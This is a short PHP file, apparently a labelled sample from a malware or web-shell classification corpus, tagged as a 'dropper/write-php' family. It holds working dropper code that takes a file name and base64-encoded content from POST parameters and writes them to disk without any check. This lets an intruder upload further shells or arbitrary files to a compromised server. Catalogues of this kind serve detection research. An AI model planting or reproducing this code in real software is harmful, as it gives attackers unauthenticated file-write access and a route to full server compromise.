<?php
// Family: dropper/write-php
// Style: write request content into a file
// Trait: POST content written with fopen/fwrite to a POST-chosen file name
$h = fopen($_POST['name'], 'w');
fwrite($h, base64_decode($_POST['content']));
fclose($h);
echo file_exists($_POST['name']) ? 'written' : 'fail';
